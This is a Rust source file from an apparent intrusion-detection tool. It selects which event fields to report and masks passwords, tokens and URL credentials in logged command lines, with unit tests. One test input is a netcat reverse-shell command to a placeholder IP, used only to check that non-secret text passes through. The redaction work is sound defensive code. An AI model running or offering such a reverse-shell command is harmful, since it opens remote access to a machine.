//! What is told of an event: few fields, short, and without secrets that stand in command lines.

use baluardo_detect::sigma::Event;
use baluardo_model::intrusion::EventField;

/// Fields that a person needs, in the order in which they are told.
const TOLD: [&str; 17] = [
    "TargetFilename",
    "AuthService",
    "AuthMethod",
    "SourceIp",
    "User",
    "USER",
    "COMMAND",
    "UNIT",
    "Image",
    "CommandLine",
    "ParentImage",
    "ParentCommandLine",
    "TTY",
    "PWD",
    "LocalHour",
    "SYSLOG_IDENTIFIER",
    "MESSAGE",
];
/// Longest value that is told, in characters.
const LONGEST: usize = 300;
/// Longest account that is told, in characters.
const LONGEST_NAME: usize = 64;

/// Accounts that everybody tries everywhere. Of other names that no account has, any may be a password that somebody typed
/// into the wrong field.
const COMMON: [&str; 32] = [
    "admin",
    "administrator",
    "anonymous",
    "ansible",
    "apache",
    "backup",
    "debian",
    "deploy",
    "dev",
    "docker",
    "ftp",
    "ftpuser",
    "git",
    "guest",
    "hadoop",
    "info",
    "jenkins",
    "mysql",
    "nagios",
    "nginx",
    "oracle",
    "pi",
    "postgres",
    "redis",
    "root",
    "support",
    "test",
    "tomcat",
    "ubuntu",
    "user",
    "www",
    "zabbix",
];

/// Words after which a secret stands.
const SECRET: [&str; 10] =
    ["password", "passwd", "passphrase", "secret", "token", "apikey", "api_key", "api-key", "credential", "pwd"];

/// The fields of an event that are told.
pub(super) fn fields(event: &Event) -> Vec<EventField> {
    // The words of a refused log-in hold the name that was typed.
    let of_login = event.has("AuthOutcome") || event.has("UserKnown");
    let told = TOLD.iter().filter(|name| !(of_login && **name == "MESSAGE"));
    let field = |name: &&str| {
        let value = event.get(name).filter(|value| !value.is_empty())?;
        Some(EventField { name: (*name).to_owned(), value: text(value) })
    };
    told.filter_map(field).collect()
}

/// The account that an event is about, as far as it may be told.
pub(super) fn account(event: &Event) -> Option<String> {
    let name = event.get("TargetUser").or_else(|| event.get("User")).filter(|name| !name.is_empty())?;
    let unknown = event.get("UserKnown") == Some("false");
    if unknown && !COMMON.contains(&name.to_ascii_lowercase().as_str()) {
        return None;
    }
    Some(name.chars().take(LONGEST_NAME).collect())
}

/// A text of an event without secrets, shortened.
pub(super) fn text(value: &str) -> String {
    let mut told = String::new();
    // Whether the next word is a secret as a whole.
    let mut secret = false;
    let apart = value.contains("sshpass");
    let attached = apart || value.contains("mysql") || value.contains("mariadb");
    for word in value.split(' ') {
        if told.chars().count() > LONGEST {
            break;
        }
        if !told.is_empty() {
            told.push(' ');
        }
        let hide = std::mem::take(&mut secret) && !word.is_empty();
        let (shown, next) = if hide { ("***".to_owned(), is_scheme(word)) } else { word_of(word, attached) };
        told.push_str(&shown);
        secret = next || (apart && word == "-p");
    }
    if told.chars().count() > LONGEST {
        told = told.chars().take(LONGEST).chain(['…']).collect();
    }
    told
}

/// `Bearer` and `Basic` stand before the secret itself.
fn is_scheme(word: &str) -> bool {
    ["bearer", "basic", "digest"].contains(&word.trim_matches(['\'', '"']).to_ascii_lowercase().as_str())
}

/// A word as it is told, and whether the next one is a secret. `attached`: the program takes its password as `-pSECRET`.
fn word_of(word: &str, attached: bool) -> (String, bool) {
    let lower = word.to_ascii_lowercase();
    if lower.trim_matches(['\'', '"']) == "authorization:" || is_scheme(word) {
        return (word.to_owned(), true);
    }
    if let Some((scheme, rest)) = word.split_once("://")
        && let Some((who, place)) = rest.split_once('@')
    {
        let who = who.split(':').next().unwrap_or_default();
        return (format!("{scheme}://{who}:***@{place}"), false);
    }
    let names_secret = |text: &str| SECRET.iter().any(|name| text.contains(name)) || text.ends_with("pass");
    if let Some(at) = lower.find(['=', ':'])
        && names_secret(lower.get(..at).unwrap_or_default())
        && let Some(head) = word.get(..=at)
    {
        return (format!("{head}***"), false);
    }
    if attached && word.len() > 2 && word.starts_with("-p") {
        return ("-p***".to_owned(), false);
    }
    let option = lower.strip_prefix('-').map(|rest| rest.trim_start_matches('-'));
    (word.to_owned(), option.is_some_and(names_secret))
}

#[cfg(test)]
mod tests {
    use super::*;
    use baluardo_detect::sigma::Source;

    #[test]
    fn secrets_of_command_lines_are_not_told() {
        for (line, told) in [
            ("mysql -uroot -pS3gr3ta db", "mysql -uroot -p*** db"),
            ("curl -H Authorization: Bearer abc https://x/y", "curl -H Authorization: *** *** https://x/y"),
            ("wget ftp://anna:S3gr3ta@h/x", "wget ftp://anna:***@h/x"),
            ("x --password S3gr3ta -v", "x --password *** -v"),
            ("x --api-key=abc token:abc y", "x --api-key=*** token:*** y"),
            ("sshpass -p S3gr3ta ssh h", "sshpass -p *** ssh h"),
            ("sshpass -pS3gr3ta ssh h", "sshpass -p*** ssh h"),
            ("nc -e /bin/sh 203.0.113.9 80", "nc -e /bin/sh 203.0.113.9 80"),
            ("ssh -p 2222 h", "ssh -p 2222 h"),
        ] {
            assert_eq!(text(line), told);
        }
    }

    #[test]
    fn long_texts_are_shortened_at_a_letter() {
        let told = text(&"è ".repeat(LONGEST));
        assert_eq!(told.chars().count(), LONGEST + 1);
        assert!(told.ends_with('…'));
    }

    fn login(user: &str, known: &'static str) -> Event {
        let mut event = Event::new(Source::default(), None);
        event.put("AuthOutcome", "failure");
        event.put("TargetUser", user);
        event.put("UserKnown", known);
        event.put("MESSAGE", format!("Failed password for invalid user {user}"));
        event
    }

    #[test]
    fn a_name_that_may_be_a_password_is_not_told() {
        assert_eq!(account(&login("anna", "true")).as_deref(), Some("anna"));
        assert_eq!(account(&login("Admin", "false")).as_deref(), Some("Admin"));
        let typed = login("Primavera2026!", "false");
        assert_eq!(account(&typed), None);
        assert!(fields(&typed).iter().all(|field| !field.value.contains("Primavera")));
    }
}
